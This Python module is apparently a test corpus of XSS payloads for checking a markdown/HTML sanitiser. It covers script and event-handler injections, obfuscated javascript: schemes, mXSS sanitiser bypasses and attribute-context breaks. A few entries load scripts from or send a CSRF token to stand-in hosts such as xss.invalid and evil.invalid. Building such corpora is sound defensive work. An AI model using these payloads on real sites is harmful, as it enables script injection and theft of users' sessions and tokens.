"""An XSS corpus: OWASP's filter-evasion classes, markdown-specific vectors, known sanitiser bypass
classes (mXSS through foreign content and raw-text elements), scheme obfuscation with invisible
characters, and attribute/context breaks for places rendered as plain text (names, titles).

Every payload tries to run `alert(…)`: the browser pass counts dialogs, the parser pass looks for
what would run it. No NUL characters: PostgreSQL text cannot hold them (forms reject them first).
"""

SCRIPT = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(2)</SCRIPT>",
    "<script src=//xss.invalid/x.js></script>",
    "<SCRIPT SRC=http://xss.invalid/xss.js></SCRIPT>",
    "<scr<script>ipt>alert(3)</scr</script>ipt>",
    "<script/xss src=//xss.invalid/x.js></script>",
    "<<SCRIPT>alert(4);//<</SCRIPT>",
    "<script>alert(5)//",
    "<script\x0c>alert(6)</script>",
    "</script><script>alert(7)</script>",
    "<script type=module>alert(8)</script>",
    "<script>/*</script><script>*/alert(9)</script>",
    "<!--<script>-->alert(10)<!--</script>-->",
    "<![CDATA[<script>alert(11)</script>]]>",
    "<?xml-stylesheet href=javascript:alert(12)?>",
]

EVENT_HANDLERS = [
    "<img src=x onerror=alert(20)>",
    "<IMG SRC=x ONERROR=alert(21)>",
    "<img src=x onerror=\"alert(22)\">",
    "<img src=x:alert(23) onerror=eval(src)>",
    "<img/src=x/onerror=alert(24)>",
    "<img src=x onerror\x0b=alert(25)>",
    "<img src=`x` onerror=alert(26)>",
    "<svg onload=alert(27)>",
    "<svg/onload=alert(28)>",
    "<body onload=alert(29)>",
    "<details open ontoggle=alert(30)>",
    "<video><source onerror=alert(31)></video>",
    "<audio src=x onerror=alert(32)>",
    "<input autofocus onfocus=alert(33)>",
    "<select autofocus onfocus=alert(34)>",
    "<textarea autofocus onfocus=alert(35)>",
    "<marquee onstart=alert(36)>x</marquee>",
    "<div onmouseover=alert(37)>hover</div>",
    "<a onclick=alert(38)>click</a>",
    "<p onpointerenter=alert(39)>x</p>",
    "<iframe onload=alert(40)></iframe>",
    "<object data=x onerror=alert(41)>",
    "<style onload=alert(42)></style>",
    "<link rel=stylesheet href=x onload=alert(43)>",
    "<svg><animate onbegin=alert(44) attributeName=x dur=1s>",
    "<svg><set onbegin=alert(45) attributename=x to=1>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(46)>",
    "<img src=x onerror=\\u0061lert(47)>",
    "<body onpageshow=alert(48)>",
    "<form><input type=submit onclick=alert(49)></form>",
]

JS_SCHEMES = ["javascript:alert(60)", "JaVaScRiPt:alert(61)", "javascript&colon;alert(62)",
              "&#106;avascript:alert(63)", "&#x6A;&#x61;vascript:alert(64)", "jav&#x09;ascript:alert(65)",
              "jav\tascript:alert(66)", "java\nscript:alert(67)", " \x01javascript:alert(68)",
              "vbscript:msgbox(69)", "data:text/html;base64,PHNjcmlwdD5hbGVydCg3MCk8L3NjcmlwdD4=",
              "data:text/html,<script>alert(71)</script>", "javascript://%0aalert(72)",
              "&#0000106&#0000097vascript:alert(73)", "javascript:/*--></title></style></textarea></script>*/alert(74)"]
# Invisible characters a sanitiser might not strip but a browser might ignore inside a scheme.
INVISIBLES = ["\u200b", "\ufeff", "\u00ad", "\u2060", "\u180e", "\u200d", "\u034f"]

MARKDOWN = [
    "[click](javascript:alert(100))",
    "[click](JAVASCRIPT:alert(101))",
    "[click](<javascript:alert(102)>)",
    "![img](javascript:alert(103))",
    "![img](x\" onerror=\"alert(104))",
    "[click](http://a.example \"title\\\" onmouseover=alert(105) x=\\\"\")",
    "[ref][1]\n\n[1]: javascript:alert(106)",
    "![ref][1]\n\n[1]: javascript:alert(107)",
    "<javascript:alert(108)>",
    "<http://a.example/\" onmouseover=\"alert(109)>",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxMTApPC9zY3JpcHQ+)",
    "```\n<script>alert(111)</script>\n```",
    "`<img src=x onerror=alert(112)>`",
    "    <script>alert(113)</script>",
    "# <img src=x onerror=alert(114)>",
    "| a | b |\n|---|---|\n| <script>alert(115)</script> | <img src=x onerror=alert(115)> |",
    "> <svg onload=alert(116)>",
    "- [x](javascript:alert(117))\n- <b onmouseover=alert(117)>b</b>",
    "**<img src=x onerror=alert(118)>**",
    "[![img](x)](javascript:alert(119))",
    "[x](#\" onclick=\"alert(120))",
    "[x](javascript&#58;alert(121))",
    "[x]( javascript:alert(122))",
    "[x](\njavascript:alert(123))",
    "<a href=\"javascript:alert(124)\">x</a>",
    "<a href=\"&#106;avascript:alert(125)\">x</a>",
    "[x](vbscript:msgbox(126))",
    "[x](file:///etc/passwd)",
    "*[abbr]: <script>alert(128)</script>",
    "<div markdown=\"1\">[x](javascript:alert(129))</div>",
]

MXSS = [
    '<noscript><p title="</noscript><img src=x onerror=alert(140)>">',
    "<svg><style><img src=x onerror=alert(141)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(142)>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(143)>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(144)>">',
    "<math><style><img src=x onerror=alert(145)></style></math>",
    "<svg><foreignObject><img src=x onerror=alert(146)></foreignObject></svg>",
    "<math><mi xlink:href=\"javascript:alert(147)\">x</mi></math>",
    "<svg><a xlink:href=\"javascript:alert(148)\"><text x=1 y=1>x</text></a></svg>",
    "<listing>&lt;img src=x onerror=alert(149)&gt;</listing>",
    "<xmp><img src=x onerror=alert(150)></xmp>",
    "<textarea><img src=x onerror=alert(151)></textarea>",
    "<title><img src=x onerror=alert(152)></title>",
    "<iframe srcdoc=\"<script>alert(153)</script>\"></iframe>",
    "<template><img src=x onerror=alert(154)></template>",
    "<noembed><img src=x onerror=alert(155)></noembed>",
    "<noframes><img src=x onerror=alert(156)></noframes>",
    "<plaintext><img src=x onerror=alert(157)>",
    "<select><style><img src=x onerror=alert(158)></style></select>",
    "<table><style><img src=x onerror=alert(159)></style></table>",
    "<svg><desc><img src=x onerror=alert(160)></desc></svg>",
    "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=alert(161)></annotation-xml></math>",
    "<!--><img src=x onerror=alert(162)>-->",
    "<!-- --!><img src=x onerror=alert(163)>-->",
    "<a href=\"x\"><noscript></a><img src=x onerror=alert(164)></noscript>",
]

FORMS_AND_FRAMES = [
    "<form><button formaction=javascript:alert(180)>X</button></form>",
    "<button form=f formaction=javascript:alert(181)>X</button>",
    "<input type=image formaction=javascript:alert(182) src=x>",
    "<form action=javascript:alert(183)><input type=submit></form>",
    "<form id=f action=//evil.invalid><input name=csrfmiddlewaretoken></form>",
    "<isindex type=image src=1 onerror=alert(185)>",
    "<iframe src=javascript:alert(186)></iframe>",
    "<embed src=javascript:alert(187)>",
    "<object data=javascript:alert(188)></object>",
    "<base href=javascript:alert(189)//>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(190)\">",
    "<frameset onload=alert(191)>",
    "<a href=\"x\" target=_blank rel=opener>tabnab</a>",
    "<img srcset=\"x 1x, javascript:alert(193) 2x\">",
    "<video poster=javascript:alert(194)></video>",
]

CSS = [
    "<div style=\"background:url(javascript:alert(200))\">x</div>",
    "<style>@import 'javascript:alert(201)';</style>",
    "<a style=\"x:expression(alert(202))\">x</a>",
    "<p style=\"behavior:url(x.htc)\">x</p>",
    "<style>*{background:url(\"//evil.invalid/leak\")}</style>",
    "<div style=\"position:fixed;inset:0;z-index:9999\">overlay</div>",
    "<link rel=stylesheet href=//evil.invalid/x.css>",
    "<svg><style>*{fill:url(javascript:alert(207))}</style></svg>",
]

CONTEXT_BREAKS = [  # for text rendered into attributes, titles and names
    "\"><script>alert(220)</script>",
    "'><script>alert(221)</script>",
    "\" onmouseover=\"alert(222)",
    "' onmouseover='alert(223)",
    "</title><script>alert(224)</script>",
    "</textarea><script>alert(225)</script>",
    "</style><script>alert(226)</script>",
    "{{ request.META }}{% debug %}",
    "${alert(228)}",
    "`-alert(229)-`",
    "\u202egnp.exe\u202c<script>alert(230)</script>",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(231) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(231)//>\\x3e",
    "%3Cscript%3Ealert(232)%3C/script%3E",
    "&lt;script&gt;alert(233)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(234)\\u003c/script\\u003e",
    "+ADw-script+AD4-alert(235)+ADw-/script+AD4-",
]


def _scheme_variants() -> list[str]:
    variants = []
    for scheme in JS_SCHEMES:
        variants += [f"[x]({scheme})", f'<a href="{scheme}">x</a>']
    for n, char in enumerate(INVISIBLES):
        poisoned = "java" + char + "script:alert(" + str(300 + n) + ")"
        variants += [f"[x]({poisoned})", f"<{poisoned}>", f"[x]({char}javascript:alert({310 + n}))"]
    return variants


PAYLOADS: list[str] = list(dict.fromkeys(
    SCRIPT + EVENT_HANDLERS + MARKDOWN + MXSS + FORMS_AND_FRAMES + CSS + CONTEXT_BREAKS + _scheme_variants()
))
